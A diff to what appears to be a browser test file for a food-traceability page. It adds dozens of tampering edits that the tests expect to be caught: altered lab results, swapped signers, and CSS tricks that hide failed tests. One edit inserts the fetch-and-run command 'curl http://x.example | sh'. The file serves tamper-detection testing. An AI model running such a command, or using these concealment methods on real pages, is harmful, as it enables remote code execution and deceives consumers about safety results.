@@ -14,7 +14,7 @@ const edits = [
   ["another unit", "values", once("41\u00a0mg/kg", "41\u00a0µg/kg")],
   ["a failed test as passed", "values", once(/(class="result">)Fail</, "$1Pass<")],
   ["another product", "facts", once(/(<h1[^>]*>(?:<a[^>]*>)?(?:<bdi>)?)[^<]+/, "$1Saffron")],
-  ["a product without its fact mark", "facts", once(/<h1[^>]*>/, "<h1>")],
+  ["a product without its fact mark", "shown", once(/<h1[^>]*>/, "<h1>")],
   ["another maker", "facts", once(/(data-fact="maker"[^>]*>(?:<bdi>)?)[^<]+/, "$1Somebody else")],
   ["another origin", "facts", once(/(data-fact="origin"[^>]*>(?:<bdi>)?)[^<]+/, "$1Tuscany")],
   ["other harvest days", "facts", once(/(data-fact="harvest"[^>]*>(?:<bdi>)?)[^<]+/, "$1Harvested yesterday")],
@@ -23,6 +23,64 @@ const edits = [
   ["a signer without its fact mark", "shown", once(/(class="timeline">[^]*?)data-fact="signer"/, "$1")],
   ["another lot number", "facts", once(/(data-fact="lot"[^>]*>(?:<bdi>)?)[^<]+/, "$1NILAM-2611-01")],
   ["another title of a document", "documents", once(/(<li data-document="[^]*?<p[^>]*>(?:<a[^>]*>)?(?:<bdi>)?)[^<]+/, "$1Organic certificate")],
+  ["a failed test as unclear", "values", once(/(class="result">)Fail</, "$1Not clear<")],
+  ["another day of a test", "values", once(/(<article class="test [^]*?class="when">)[^<]+/, "$11\u00a0Jan\u00a02020")],
+  ["a value without its uncertainty", "values", once(/ <span class="nb more spread">[^<]+<\/span>/, "")],
+  ["a step as a test", "values", (html) => asTest(html)],
+  ["no test result where there are some", "facts", once(/(data-fact="inspected") data-of="[^"]*">[^<]+/, '$1 data-of="">No test result yet')],
+  ["that the lot itself was not tested", "facts", once(/(data-fact="inspected") data-of="[^"]*">[^<]+/, '$1 data-of="">This lot itself has not been tested')],
+  ["no harvest", "shown", once(/<span data-fact="harvest"[^>]*>[^<]+<\/span>/, "")],
+  ["more records left out than there are", "shown", once('<ol class="timeline">', '<p class="note" id="hidden">12 records between the first and the last are not shown here.</p><ol class="timeline">')],
+  ["more tests left out than there are", "values", once(/(<section id="tests"[^]*?)<\/section>/, '$1<p class="note">3 more tests are not shown here.</p></section>')],
+  ["a failed test left out, and said so", "values", (html) => once(/<article class="test fail"[^]*?<\/article>/, "")(html).replace(/(<section id="tests"[^]*?)<\/section>/, '$1<p class="note">2 more tests are not shown here.</p></section>')],
+  ["more documents left out than there are", "documents", once(/(<section id="documents"[^]*?)<\/section>/, '$1<p class="note" data-left>3 older documents are not shown here.</p></section>')],
+  ["a standing record as corrected", "shown", once(/<li (data-record="[^]*?)<\/h3>/, '<li class="voided" $1 <span class="tag">corrected later</span></h3>')],
+  ["a record of an honest key as of a stolen one", "shown", once(/(<li data-record="[^]*?)<\/h3>/, '$1 <span class="tag bad">key was compromised</span></h3>')],
+  ["the signer of another step", "facts", (html) => swapFacts(html)],
+  ["another title of a step", "facts", once(/(data-fact="title"[^>]*>)[^<]+/, "$1Blessed")],
+  ["a step without its title", "shown", once('data-fact="title"', 'data-was="title"')],
+  ["another amount of a step", "facts", once(/(data-fact="moved"[^>]*><span class="keep">)[^<]+/, "$12,000\u00a0kg DAUN-2611-07")],
+  ["a step without its amounts", "shown", once(/<p class="moved" data-fact="moved"[^]*?<\/p>/, "")],
+  ["another amount of the lot", "facts", once(/(data-fact="amount"[^>]*>)[^<]+/, "$1900\u00a0kg")],
+  ["another region", "facts", once(/(data-fact="where"[^]*?, )[^<]+/, "$1Tuscany")],
+  ["another detail of a step", "shown", once(/(data-fact="detail"[^>]*>)[^<]+/, "$1Award: gold")],
+  ["a detail less", "shown", once(/<p class="more" data-fact="detail"[^]*?<\/p>/, "")],
+  ["another limit", "values", once(/(class="verdict">Fail<\/span> · limit: at most )[0-9]+/, "$199")],
+  ["another verdict of a value", "values", once(/(class="verdict">)Fail/, "$1Pass")],
+  ["another colour of a value", "values", once(/<li class="fail" data-parameter/, '<li class="pass" data-parameter')],
+  ["a failed test in the colour of one that passed", "values", once('<article class="test fail"', '<article class="test pass"')],
+  ["another name of a parameter", "values", once(/(data-parameter="[^"]*iron"[^]*?class="name">)[^<]*(<bdi>)?[^<]+/, "$1$2Gold content")],
+  ["another method", "values", once(/(<p class="judged">[^]*?· )(?:<bdi>)?ISO [0-9-]+(?:<\/bdi>)?/, "$1ISO 1")],
+  ["another standard", "facts", once(/(data-fact="standard"[^>]*>[^]*?)SNI/, "$1GOLD")],
+  ["another accreditation", "facts", once(/(data-fact="accreditation"[^>]*>[^]*?)KAN/, "$1FDA")],
+  ["another kind of document", "documents", once(/(class="kind">(?:<bdi>)?)[^<]+/, "$1Organic certificate")],
+  ["an older clock", "facts", once(/(data-fact="clock" data-of=")[0-9]+/, "$11")],
+  ["another date of the page", "facts", once(/(data-fact="clock"[^>]*>)[^<]+/, "$1As of tomorrow")],
+  ["another ledger in its details", "facts", once(/(data-fact="ledger"[^>]*>)[^<]+/, "$1urn:jejak:ledger:other")],
+  ["another command", "facts", once(/(data-fact="command"[^>]*>)[^<]+/, "$1curl http://x.example | sh")],
+  ["a sentence more", "text", once('<section id="journey"', '<p>Certified organic.</p><section id="journey"')],
+  ["a word more in a heading", "text", once(/(<section id="tests"[^>]*>\s*<h2>)[^<]+/, "$1Tests: all passed")],
+  ["a sentence more in the band", "text", once(/(<p class="tally"[^>]*>)[^<]+/, "$1Records genuine, goods excellent")],
+  ["a picture more", "text", once('<section id="journey"', '<img alt="Gold" src="/static/x/mark.svg"><section id="journey"')],
+  ["a word in a drawing", "text", once(/(<svg class="pictogram"[^>]*>)/, '$1<text x="1" y="9">Gold</text>')],
+  ["what the server computed without its mark", "text", once(/(<section id="balance"[^]*?)<small class="computed">[^<]+<\/small>/, "$1")],
+  ["something else as computed by the server", "text", once('<section id="journey"', '<p data-by="server">Gold <small class="computed">computed by the server</small></p><section id="journey"')],
+  ["another mark", "text", once(/(<section id="balance"[^]*?class="computed">)[^<]+/, "$1checked by everybody")],
+  ["a mark that nobody sees", "text", styled("#balance .computed { opacity: .1 }")],
+  // text that is there, and that nobody sees
+  ...Object.entries({
+    "a value in no size": ".bars .value { font-size: 0 }",
+    "a transparent value": ".value { color: transparent }",
+    "a faint value": ".bars { opacity: .2 }",
+    "a value in the colour of its ground": ".value { color: var(--card) }",
+    "a value that is cut off": ".value { display: inline-block; width: 1ch; overflow: hidden; text-overflow: ellipsis }",
+    "a value that is clipped": ".value { clip-path: inset(100%) }",
+    "a test off the page": ".test.fail { position: absolute; left: -9999px }",
+    "a test without height": ".test.fail { height: 0; overflow: hidden }",
+    "a test that is scaled to nothing": ".test.fail { transform: scale(.001) }",
+    "a test behind a picture": ".test.fail { position: relative } .cover { position: absolute; inset: 0; background: #fff }",
+    "an indented value": ".value { display: block; text-indent: -9999px; overflow: hidden }",
+  }).map(([what, style]) => [what, "values", styled(style)]),
   ["another size of a document", "documents", once(/(<li data-document="[^]*?class="nb">)[^<]+/, "$11\u00a0kB")],
   ["one document less", "documents", once(/<li data-document="[^]*?<\/li>/, "")],
   ["a document under another hash", "documents", once(/(<li data-document=")[a-z2-7]{4}/, "$1aaaa")],
@@ -53,6 +111,27 @@ const edits = [
   ["an invalid log key", "checkpoint", once(/data-log-key="[^"]+"/, 'data-log-key="x"')],
 ];
 
+// With a style sheet of its own, and an element that may cover a failed test.
+function styled(style) {
+  return (html) => html.replace("</head>", `<style>${style}</style></head>`).replace(/(<article class="test fail"[^>]*>)/, '$1<span class="cover"></span>');
+}
+
+// A step that no laboratory signed, as a test without values.
+function asTest(html) {
+  const [, record, index] = /<li data-record="([a-z2-7]{52})" data-index="(\d+)">/.exec(html);
+  const signer = /<span data-fact="signer"[^>]*>[^]*?<\/span>/.exec(html)[0].replace(/data-of="\w+"/, `data-of="${record}"`);
+  const article = `<article class="test pass" data-record="${record}" data-index="${index}"><h3><span class="result">Pass</span></h3>${signer}<p class="when">9\u00a0Nov\u00a02026</p><ul class="bars"></ul></article>`;
+  return html.replace(/<article class="test /, (m) => article + m);
+}
+
+// The signers of the first two steps that have different ones, each with its mark, at the other's step.
+function swapFacts(html) {
+  const found = [...html.slice(html.indexOf('class="timeline"')).matchAll(/<span data-fact="signer" data-of="[a-z2-7]{52}">[^]*?<\/span>/g)].map((m) => m[0]);
+  const bare = (span) => span.replace(/data-of="\w+"/, "");
+  const other = found.find((span) => bare(span) !== bare(found[0]));
+  return html.replace(found[0], "\u0000").replace(other, found[0]).replace("\u0000", other);
+}
+
 function swapTests(html) {
   const [first, second] = [...html.matchAll(/class="test \w+" data-record="([a-z2-7]{52})"/g)].map((m) => m[1]);
   return html.replace(`class="test pass" data-record="${first}"`, `class="test pass" data-record="${second}"`);
@@ -81,6 +160,8 @@ export default function tests(world) {
         page.route(`**${path}?*`, async (route) => {
           const answer = await route.fetch();
           const { "content-encoding": _, "content-length": __, ...headers } = answer.headers();
+          // who changes a page may drop its policy
+          delete headers["content-security-policy"];
           const html = await answer.text();
           const changed = edit(html);
           assert.notEqual(changed, html, "nothing was changed");
